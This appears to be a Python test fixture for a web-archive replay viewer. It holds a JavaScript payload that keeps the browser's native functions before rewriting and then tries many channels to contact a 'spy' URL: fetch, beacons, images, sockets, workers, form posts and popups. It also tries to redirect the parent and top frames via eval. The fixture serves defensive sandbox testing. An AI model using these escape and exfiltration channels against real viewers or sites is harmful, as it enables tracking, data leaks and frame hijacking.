"""A page that attacks whatever replays it, and the attacks of one that has broken out of the viewer's rewriting."""

from __future__ import annotations

PROGRAM = """
if (Object.getOwnPropertyNames(window).some(name => /wb_?wombat/i.test(name))) console.log('the page runs its script')
"""

BROKEN_OUT = """(() => {
  const {fetch, WebSocket, EventSource, Worker, Blob, open, parent, top} = window
  const make = Document.prototype.createElement, set = Element.prototype.setAttribute
  const append = Node.prototype.appendChild, submit = HTMLFormElement.prototype.submit
  const beacon = Navigator.prototype.sendBeacon, address = URL.createObjectURL, place = window.location
  const put = (name, values) => {
    const made = make.call(document, name)
    for (const [key, value] of Object.entries(values)) set.call(made, key, value)
    append.call(document.body, made)
    return made
  }
  const attacks = spy => ({
    fetch: () => fetch.call(window, spy + 'fetch', {mode: 'no-cors'}).catch(() => 0),
    beacon: () => beacon.call(navigator, spy + 'beacon', 'x'),
    image: () => put('img', {src: spy + 'image'}),
    socket: () => new WebSocket(spy.replace('http', 'ws') + 'socket'),
    events: () => new EventSource(spy + 'events'),
    style: () => put('link', {rel: 'stylesheet', href: spy + 'style'}),
    prefetch: () => put('link', {rel: 'prefetch', href: spy + 'prefetch'}),
    script: () => put('script', {src: spy + 'script'}),
    frame: () => put('iframe', {src: spy + 'frame'}),
    object: () => put('object', {data: spy + 'object'}),
    media: () => put('video', {src: spy + 'media', preload: 'auto'}),
    worker: () => new Worker(address.call(URL, new Blob([`fetch('${spy}worker', {mode: 'no-cors'})`]))),
    open: () => { if (!open.call(window, spy + 'open')) throw new TypeError() },
    form: () => submit.call(put('form', {action: spy + 'form', method: 'post'})),
    above: () => {
      for (const one of place.ancestorOrigins) fetch.call(window, one + '/', {mode: 'no-cors'}).catch(() => 0)
    },
    read: () => { if (!top.document) throw new TypeError() },
  })
  const moves = spy => ({
    top: () => { top.location.href = spy + 'top' },
    parent: () => parent.eval(`location.href = '${spy}parent'`),
    'two above': () => parent.parent.eval(`location.href = '${spy}two-above'`),
    itself: () => { place.href = spy + 'itself' },
  })
  const all = made => Object.fromEntries(Object.entries(made).map(([name, attack]) => {
    try { attack(); return [name, ''] } catch (error) { return [name, error.name] }
  }))
  Object.defineProperty(window, 'brokenOut', {value: {attack: spy => all(attacks(spy)), move: spy => all(moves(spy))}})
})()"""
"""Run before any other script of a document, it keeps the browser's own functions, which the viewer then replaces."""


def page_of(text: str) -> str:
    """A page with a post, which brings a script along."""
    return (
        f"<!doctype html><meta charset=utf-8><title>Unggahan</title><article>{text}</article>"
        "<script src=/jahat.js></script>"
    )
